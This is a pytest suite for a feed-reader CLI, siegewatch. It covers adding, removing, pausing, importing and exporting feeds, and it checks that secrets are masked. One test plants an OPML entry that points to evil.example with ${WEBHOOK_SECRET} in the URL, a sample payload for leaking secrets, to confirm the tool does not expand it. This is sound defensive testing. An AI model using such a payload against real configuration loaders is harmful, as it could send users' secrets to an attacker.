"""Feeds added, removed, paused and resumed by command, on a store in memory."""

import json
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import fakeredis
import pytest
from typer.testing import CliRunner, Result

from siegewatch import wiring
from siegewatch.apps.cli import app
from siegewatch.settings import load
from siegewatch.store.client import Store
from siegewatch.store.keys import Keys
from siegewatch.store.memory import Memory

FEEDS = """
feeds:
  - {url: "https://world.example/rss", name: World}
  - {url: "https://one.example/rss", name: Twins}
  - {url: "https://two.example/rss", name: Twins}
"""
ADDED = "https://added.example/rss"


@pytest.fixture
def store() -> Store:
    return Store(fakeredis.FakeRedis(), Keys("sw:"))


@pytest.fixture
def config(tmp_path: Path, store: Store, monkeypatch: pytest.MonkeyPatch) -> Path:
    @contextmanager
    def opened(_: object) -> Iterator[Store]:
        yield store

    (tmp_path / "feeds.yaml").write_text(FEEDS)
    monkeypatch.setattr(wiring, "opened_store", opened)
    return tmp_path


@pytest.fixture
def memory(store: Store, config: Path) -> Memory:
    return wiring.memory(load(config, {}), store)


def feeds(config: Path, *arguments: str) -> Result:
    return CliRunner(env={"COLUMNS": "80"}).invoke(app, ["feeds", *arguments, "--config", str(config)])


def listed(config: Path, name: str) -> dict[str, Any]:
    rows = json.loads(feeds(config, "list", "--format", "json").stdout)
    return next(row for row in rows if row["name"] == name)


def test_added_feed_is_listed_as_such_with_all_it_was_given(config: Path) -> None:
    options = ("--name", "Added", "--tag", "world", "--tag", "wire", "--every", "2m", "--priority", "high")
    assert feeds(config, "add", ADDED, *options).exit_code == 0
    row = listed(config, "Added")
    told = {key: row[key] for key in ("url", "tags", "every_seconds", "priority", "origin", "paused")}
    assert told == {
        "url": ADDED,
        "tags": ["world", "wire"],
        "every_seconds": 120.0,
        "priority": "high",
        "origin": "added",
        "paused": None,
    }
    assert listed(config, "World")["origin"] == "feeds.yaml"


@pytest.fixture
def _json(install: Callable[..., None]) -> None:
    install({"json": "siegewatch.collect.sources.json_api:JsonSource"})


@pytest.mark.usefixtures("_json")
def test_added_feed_is_asked_for_as_it_was_told(config: Path, memory: Memory, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("KEY", "k1")
    api = ("--source", "json", "--option", "items=data", "--option", "title=name", "--header", "X-Key=${KEY}")
    assert feeds(config, "add", ADDED, *api, "--proxy", "http://proxy.example:3128").exit_code == 0
    [added] = memory.added.all()
    assert added.written["headers"] == {"X-Key": "${KEY}"}
    assert "KEY" not in repr(added)
    *_, feed = wiring.roster(load(config, {}), memory.added.all(), {}).feeds
    assert (feed.source, feed.options, feed.headers, feed.proxy) == (
        "json",
        {"items": "data", "title": "name"},
        {"X-Key": "k1"},
        "http://proxy.example:3128",
    )


@pytest.mark.parametrize(
    ("arguments", "told"),
    [
        (("added.example/rss",), "url is no http or https address, write https://host/path"),
        ((ADDED, "--every", "30s"), 'every "30s" is under 60 s, write 60s or more (1s is for addresses in network'),
        ((ADDED, "--every", "often"), 'every "often" is no duration, write a number and s, m, h or d, such as 90s'),
        ((ADDED, "--priority", "urgent"), 'priority "urgent" is not known, write critical, high, normal or low'),
        ((ADDED, "--source", "fead"), 'source "fead" is not installed, did you mean "feed"?'),
        ((ADDED, "--source", "json", "--option", "items=data"), "options.title is missing, write keys with dots"),
        ((ADDED, "--option", "items=data"), 'unknown key "items", remove it: source feed takes no options'),
        ((ADDED, "--header", "Host=example"), 'headers has "Host", which siegewatch itself decides, remove it'),
        ((ADDED, "--proxy", "socks5://h:1"), "proxy is no http address, write http://host:port"),
        ((ADDED, "--allow", "10.0.0.1/8"), "has host bits set, write 10.0.0.0/8, or 10.0.0.1 for that address alone"),
        (
            ("https://x.example/?key=${NOT_SET}",),
            "variable NOT_SET is not set, set it, or write ${NOT_SET:-} for empty",
        ),
        (("https://WORLD.example:443/rss",), "its url is that of the feed World, keep one"),
    ],
)
@pytest.mark.usefixtures("_json")
def test_what_feeds_yaml_would_refuse_is_refused_in_the_same_words(
    config: Path, memory: Memory, arguments: tuple[str, ...], told: str
) -> None:
    result = feeds(config, "add", *arguments)
    assert (result.exit_code, result.stdout) == (2, "")
    assert result.stderr.startswith("feeds add:0: ")
    assert told in result.stderr
    assert memory.added.all() == ()


def test_added_feed_is_not_added_twice(config: Path, memory: Memory) -> None:
    feeds(config, "add", ADDED)
    assert feeds(config, "add", ADDED).exit_code == 2
    assert len(memory.added.all()) == 1


def test_secret_behind_a_variable_is_not_stored_and_not_shown(
    config: Path, store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FEED_KEY", "s3cr3t")
    assert feeds(config, "add", ADDED + "?key=${FEED_KEY}", "--name", "Added").exit_code == 0
    [raw] = store.redis.hvals("sw:feeds:added")  # type: ignore[misc]
    assert b"s3cr3t" not in raw
    assert listed(config, "Added")["url"] == ADDED + "?key=***"


def test_added_feed_that_is_refused_by_now_is_told_and_can_be_removed(config: Path, memory: Memory) -> None:
    (config / "siegewatch.yaml").write_text("network: {allow: [127.0.0.1]}\n")
    assert feeds(config, "add", "http://127.0.0.1/rss", "--every", "1s", "--name", "Near").exit_code == 0
    (config / "siegewatch.yaml").write_text("network: {allow: []}\n")
    result = feeds(config, "list", "--format", "json")
    assert 'every "1s" is under 60 s' in result.stderr
    assert "Near" not in result.stdout
    assert feeds(config, "remove", "Near").exit_code == 0
    assert memory.added.all() == ()


@pytest.mark.parametrize("by", ["url", "name", "id"])
def test_added_feed_is_removed_by_whatever_names_it(config: Path, memory: Memory, by: str) -> None:
    feeds(config, "add", ADDED, "--name", "Added")
    feeds(config, "pause", "Added")
    row = listed(config, "Added")
    assert feeds(config, "remove", row[by]).exit_code == 0
    assert (memory.added.all(), memory.feeds.paused()) == ((), {})


def test_feed_of_the_file_is_not_removed_but_told_where_to(config: Path) -> None:
    result = feeds(config, "remove", "World")
    assert (result.exit_code, len(result.stderr.splitlines())) == (1, 1)
    assert "World stands in feeds.yaml: delete it there, or pause it" in result.stderr


@pytest.mark.parametrize("command", ["remove", "pause", "resume"])
def test_feed_must_be_one_that_there_is_and_only_one(config: Path, command: str) -> None:
    unknown = feeds(config, command, "Wurld")
    assert (unknown.exit_code, unknown.stderr) == (
        2,
        'siegewatch: no feed is known as "Wurld": did you mean "World"?\n',
    )
    twins = feeds(config, command, "Twins")
    assert twins.exit_code == 2
    assert '2 feeds are named "Twins": name one by its id' in twins.stderr


def test_paused_feed_says_so_with_its_reason_until_it_is_resumed(config: Path) -> None:
    assert feeds(config, "pause", "World", "--reason", "moves house").exit_code == 0
    paused = listed(config, "World")["paused"]
    assert (paused["by"], paused["reason"]) == ("operator", "moves house")
    for listing in ("list", "health"):
        assert "moves" in feeds(config, listing).stdout
        assert max(map(len, feeds(config, listing).stdout.splitlines())) <= 80
    assert feeds(config, "resume", "World").exit_code == 0
    assert listed(config, "World")["paused"] is None
    assert feeds(config, "resume", "World").stderr == "siegewatch: World is not paused\n"


OPML = """<opml version="2.0"><body>
<outline text="Africa">
<outline type="rss" text="Sahel" xmlUrl="https://sahel.example/rss" category="wire"/>
<outline type="rss" text="Sahel again" xmlUrl="https://SAHEL.example/rss#x"/>
<outline type="rss" text="World" xmlUrl="https://world.example/rss"/>
<outline type="rss" text="Lost"/>
<outline type="rss" text="Old" xmlUrl="ftp://old.example/rss"/>
</outline>
</body></opml>"""


@pytest.fixture
def file(tmp_path: Path) -> Path:
    path = tmp_path / "list.opml"
    path.write_text(OPML)
    return path


def test_import_adds_what_is_new_and_tells_what_is_at_fault(config: Path, file: Path) -> None:
    result = feeds(config, "import", str(file), "--tag", "desk")
    assert (result.exit_code, result.stdout) == (0, "5 feeds: 1 added, 2 known already, 2 at fault\n")
    lost, old = result.stderr.splitlines()
    assert lost == f"{file}:6: url is missing, write it"
    assert old == f"{file}:7: url is no http or https address, write https://host/path"
    row = listed(config, "Sahel")
    assert (row["tags"], row["origin"]) == (["Africa", "wire", "desk"], "added")
    assert feeds(config, "import", str(file)).stdout == "5 feeds: 0 added, 3 known already, 2 at fault\n"


def test_import_tried_adds_nothing(config: Path, memory: Memory, file: Path) -> None:
    result = feeds(config, "import", str(file), "--dry-run")
    assert "https://sahel.example/rss" in result.stdout
    assert "5 feeds: 1 to add, 2 known already, 2 at fault\n" in result.stdout
    assert memory.added.all() == ()


def test_imported_file_cannot_name_our_variables_or_secrets(
    config: Path, memory: Memory, file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("WEBHOOK_SECRET", "s3cr3t")
    file.write_text(
        '<opml><body><outline text="${WEBHOOK_SECRET}" xmlUrl="https://evil.example/?q=${WEBHOOK_SECRET}"/></body></opml>'
    )
    assert feeds(config, "import", str(file)).exit_code == 0
    *_, feed = wiring.roster(load(config, {}), memory.added.all(), {}).feeds
    assert (feed.name, feed.url) == ("${WEBHOOK_SECRET}", "https://evil.example/?q=${WEBHOOK_SECRET}")


@pytest.mark.parametrize("content", ["<opml>", "<!DOCTYPE opml><opml/>", "feeds: []"])
def test_file_that_is_no_opml_is_told_in_one_line(config: Path, file: Path, content: str) -> None:
    file.write_text(content)
    result = feeds(config, "import", str(file))
    assert (result.exit_code, len(result.stderr.splitlines())) == (1, 1)
    assert result.stderr.startswith(f"siegewatch: {file}: line 1 ")


def test_what_is_exported_can_be_imported_elsewhere(config: Path, file: Path, memory: Memory) -> None:
    feeds(config, "import", str(file))
    assert feeds(config, "export", str(file)).exit_code == 0
    before = listed(config, "Sahel")
    memory.added.remove(memory.added.all()[0])
    assert feeds(config, "import", str(file)).stdout == "4 feeds: 1 added, 3 known already, 0 at fault\n"
    assert listed(config, "Sahel") == before


@pytest.mark.usefixtures("_json")
def test_feed_that_another_reader_could_not_read_is_not_exported(config: Path) -> None:
    feeds(config, "add", "https://api.example/news", "--name", "Api", "--source", "json", "--option", "title=name")
    result = feeds(config, "export")
    assert "api.example" not in result.stdout
    assert "left out for a source that other readers do not have: Api" in result.stderr


SECRETS = """
feeds:
  - {url: "https://world.example/rss", name: World}
  - {url: "https://user:passw0rd@a.example/rss", name: Paid}
  - {url: "https://b.example/rss?apikey=s3cr3tkey", name: Keyed}
  - {url: "https://c.example/${PATH_PART}/rss", name: Filled}
"""


def test_export_holds_no_secret_unless_that_is_asked_for(
    config: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("PATH_PART", "inside")
    (config / "feeds.yaml").write_text(SECRETS)
    result = feeds(config, "export")
    assert "https://world.example/rss" in result.stdout
    assert not any(secret in result.output for secret in ("passw0rd", "s3cr3tkey", "inside"))
    assert "left out for what may be secret in their addresses: Paid, Keyed, Filled" in result.stderr
    result = feeds(config, "export", "--secrets")
    assert all(secret in result.stdout for secret in ("passw0rd", "s3cr3tkey", "inside"))
    assert result.stderr.startswith("warning: written with what may be secret in their addresses: Paid, Keyed, Filled")
